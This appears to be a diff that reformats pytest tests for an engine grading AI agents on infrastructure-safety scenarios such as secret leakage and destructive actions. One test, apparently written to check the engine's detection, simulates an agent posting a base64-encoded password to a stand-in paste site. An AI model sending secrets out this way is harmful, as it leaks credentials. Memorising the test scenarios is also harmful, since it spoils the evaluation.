@@ -18,11 +18,17 @@ DIRECT_SECRET = "infra.safety.de.direct-secret-request-001"
 UNQUALIFIED = "infra.safety.do.unqualified-destruction-001"
 
 
-@pytest.mark.parametrize("status", [SourceStatus.UNREACHABLE, SourceStatus.DEGRADED, SourceStatus.PARTIAL, SourceStatus.EMPTY_WINDOW])
-def test_unusable_audit_source_is_provider_failure_not_pass(scenarios: dict[str, Scenario], profile: Profile, status: SourceStatus) -> None:
+@pytest.mark.parametrize(
+    "status",
+    [SourceStatus.UNREACHABLE, SourceStatus.DEGRADED, SourceStatus.PARTIAL, SourceStatus.EMPTY_WINDOW],
+)
+def test_unusable_audit_source_is_provider_failure_not_pass(
+    scenarios: dict[str, Scenario], profile: Profile, status: SourceStatus
+) -> None:
     result = evaluate_scenario(bundle(scenarios[UNQUALIFIED], [], audit_status=status), profile)
     assert result.outcome is ScenarioOutcome.PROVIDER_FAILURE
-    assert result.provider_fault is not None and status.value in result.provider_fault
+    assert result.provider_fault is not None
+    assert status.value in result.provider_fault
     assert result.checks == []
 
 
@@ -33,7 +39,9 @@ def test_missing_audit_record_is_provider_failure(scenarios: dict[str, Scenario]
     assert "no audit record" in (result.provider_fault or "")
 
 
-def test_same_empty_record_from_a_healthy_source_passes(scenarios: dict[str, Scenario], profile: Profile) -> None:
+def test_same_empty_record_from_a_healthy_source_passes(
+    scenarios: dict[str, Scenario], profile: Profile
+) -> None:
     assert evaluate_scenario(bundle(scenarios[UNQUALIFIED]), profile).outcome is ScenarioOutcome.PASS
 
 
@@ -41,36 +49,64 @@ def test_value_leaked_base64_in_tool_argument_fails(scenarios: dict[str, Scenari
     scenario = scenarios[DIRECT_SECRET]
     plain = "super-secret-password"
     encoded = base64.b64encode(plain.encode()).decode()
-    values = [RegisteredValue(value_ref=vc.value_ref, value=plain if "PASSWORD" in vc.value_ref else "dbuser-77") for vc in scenario.verification.value_containment]
+    values = [
+        RegisteredValue(value_ref=vc.value_ref, value=plain if "PASSWORD" in vc.value_ref else "dbuser-77")
+        for vc in scenario.verification.value_containment
+    ]
     leak = ToolAction(tool="http", arguments={"url": "https://paste.example/new", "body": {"blob": encoded}})
     result = evaluate_scenario(bundle(scenario, actions=[leak], values=values), profile)
     assert result.outcome is ScenarioOutcome.FAIL
     leaked = [c for c in result.failed_checks if c.block == "verification.value_containment"]
-    assert leaked and "tool_call_parameters" in leaked[0].detail
+    assert leaked
+    assert "tool_call_parameters" in leaked[0].detail
     clean = ToolAction(tool="kubectl", arguments={"command": "kubectl get secret db-credentials -o name"})
-    assert evaluate_scenario(bundle(scenario, actions=[clean], values=values), profile).outcome is ScenarioOutcome.PASS
+    assert (
+        evaluate_scenario(bundle(scenario, actions=[clean], values=values), profile).outcome
+        is ScenarioOutcome.PASS
+    )
 
 
-def test_value_in_reasoning_is_searched_only_when_declared(scenarios: dict[str, Scenario], profile: Profile) -> None:
+def test_value_in_reasoning_is_searched_only_when_declared(
+    scenarios: dict[str, Scenario], profile: Profile
+) -> None:
     scenario = scenarios[DIRECT_SECRET]
     assert all("reasoning_trace" in vc.output_channels for vc in scenario.verification.value_containment)
-    values = [RegisteredValue(value_ref=vc.value_ref, value="zz-secret-" + str(i)) for i, vc in enumerate(scenario.verification.value_containment)]
-    result = evaluate_scenario(bundle(scenario, reasoning="the password is zz-secret-0", values=values), profile)
+    values = [
+        RegisteredValue(value_ref=vc.value_ref, value="zz-secret-" + str(i))
+        for i, vc in enumerate(scenario.verification.value_containment)
+    ]
+    result = evaluate_scenario(
+        bundle(scenario, reasoning="the password is zz-secret-0", values=values), profile
+    )
     assert result.outcome is ScenarioOutcome.FAIL
     narrowed = scenario.model_copy(deep=True)
     for vc in narrowed.verification.value_containment:
         vc.output_channels = ["agent_response"]
-    result = evaluate_scenario(bundle(narrowed, reasoning="the password is zz-secret-0", values=values), profile)
+    result = evaluate_scenario(
+        bundle(narrowed, reasoning="the password is zz-secret-0", values=values), profile
+    )
     assert all(c.passed for c in result.checks if c.block == "verification.value_containment")
 
 
-def test_contextual_containment_allows_the_value_inside_its_boundary(scenarios: dict[str, Scenario], profile: Profile) -> None:
+def test_contextual_containment_allows_the_value_inside_its_boundary(
+    scenarios: dict[str, Scenario], profile: Profile
+) -> None:
     scenario = scenarios[DIRECT_SECRET].model_copy(deep=True)
     for vc in scenario.verification.value_containment:
         vc.scope = "default"
-    values = [RegisteredValue(value_ref=vc.value_ref, value="ctx-secret") for vc in scenario.verification.value_containment]
-    inside = bundle(scenario, [entry(0, "get", "secrets", "db-credentials")], answer="ctx-secret", values=values)
-    outside = bundle(scenario, [entry(0, "create", "configmaps", "dump", namespace="public")], answer="ctx-secret", values=values)
+    values = [
+        RegisteredValue(value_ref=vc.value_ref, value="ctx-secret")
+        for vc in scenario.verification.value_containment
+    ]
+    inside = bundle(
+        scenario, [entry(0, "get", "secrets", "db-credentials")], answer="ctx-secret", values=values
+    )
+    outside = bundle(
+        scenario,
+        [entry(0, "create", "configmaps", "dump", namespace="public")],
+        answer="ctx-secret",
+        values=values,
+    )
     checks = lambda r: [c.passed for c in r.checks if c.block == "verification.value_containment"]  # noqa: E731
     assert all(checks(evaluate_scenario(inside, profile)))
     assert not all(checks(evaluate_scenario(outside, profile)))
@@ -84,7 +120,9 @@ def test_every_negative_verification_of_the_corpus_is_recognised(profile: Profil
     assert all(check_scenario(s, profile) == [] for s in profile.scenarios)
 
 
-def test_unrecognised_negative_verification_is_an_error(scenarios: dict[str, Scenario], profile: Profile) -> None:
+def test_unrecognised_negative_verification_is_an_error(
+    scenarios: dict[str, Scenario], profile: Profile
+) -> None:
     scenario = scenarios[UNQUALIFIED].model_copy(deep=True)
     scenario.verification.negative_verification.append("nothing bad happened, probably")
     with pytest.raises(EngineError, match="not recognised"):
@@ -95,7 +133,9 @@ def test_unrecognised_negative_verification_is_an_error(scenarios: dict[str, Sce
 def test_unknown_behaviour_is_an_error(scenarios: dict[str, Scenario], profile: Profile) -> None:
     scenario = scenarios[UNQUALIFIED].model_copy(deep=True)
     assert scenario.assertions is not None
-    scenario.assertions.must.append(scenario.assertions.must_not[0].model_copy(update={"behavior": "no_such_behaviour", "action": None}))
+    scenario.assertions.must.append(
+        scenario.assertions.must_not[0].model_copy(update={"behavior": "no_such_behaviour", "action": None})
+    )
     with pytest.raises(EngineError, match="no_such_behaviour"):
         evaluate_scenario(bundle(scenario), profile)
 
@@ -112,20 +152,36 @@ def test_state_assertion_replicas_changed_fails(scenarios: dict[str, Scenario], 
 
 
 def test_state_diff_is_compared_before_and_after(scenarios: dict[str, Scenario], profile: Profile) -> None:
-    scenario = next(s for s in scenarios.values() if s.verification.state_diff and "before" in s.verification.state_diff and "LOG_LEVEL" in s.verification.state_diff["before"])
+    scenario = next(
+        s
+        for s in scenarios.values()
+        if s.verification.state_diff
+        and "before" in s.verification.state_diff
+        and "LOG_LEVEL" in s.verification.state_diff["before"]
+    )
     before_only = evaluate_scenario(bundle(scenario), profile)
     [diff] = [c for c in before_only.checks if c.block == "verification.state_diff"]
-    assert not diff.passed and "after:" in diff.detail
+    assert not diff.passed
+    assert "after:" in diff.detail
     after = declared_states(scenario)
     for state in after:
         if state.kind == "configmap" and state.object:
-            state.object["data"].update({k: str(v) for k, v in scenario.verification.state_diff["after"].items()})
-    [diff] = [c for c in evaluate_scenario(bundle(scenario, after=after), profile).checks if c.block == "verification.state_diff"]
+            state.object["data"].update(
+                {k: str(v) for k, v in scenario.verification.state_diff["after"].items()}
+            )
+    [diff] = [
+        c
+        for c in evaluate_scenario(bundle(scenario, after=after), profile).checks
+        if c.block == "verification.state_diff"
+    ]
     assert diff.passed
 
 
-def test_partial_operation_rule_flags_mutation_after_failed_restart(scenarios: dict[str, Scenario], profile: Profile) -> None:
+def test_partial_operation_rule_flags_mutation_after_failed_restart(
+    scenarios: dict[str, Scenario], profile: Profile
+) -> None:
     scenario = scenarios["infra.safety.sc.partial-operation-001"]
     result = evaluate_scenario(acting_bundle(scenario), profile)
     [rule] = [c for c in result.checks if c.block == "verification.api_audit"]
-    assert not rule.passed and "audit#2" in rule.evidence[0]
+    assert not rule.passed
+    assert "audit#2" in rule.evidence[0]
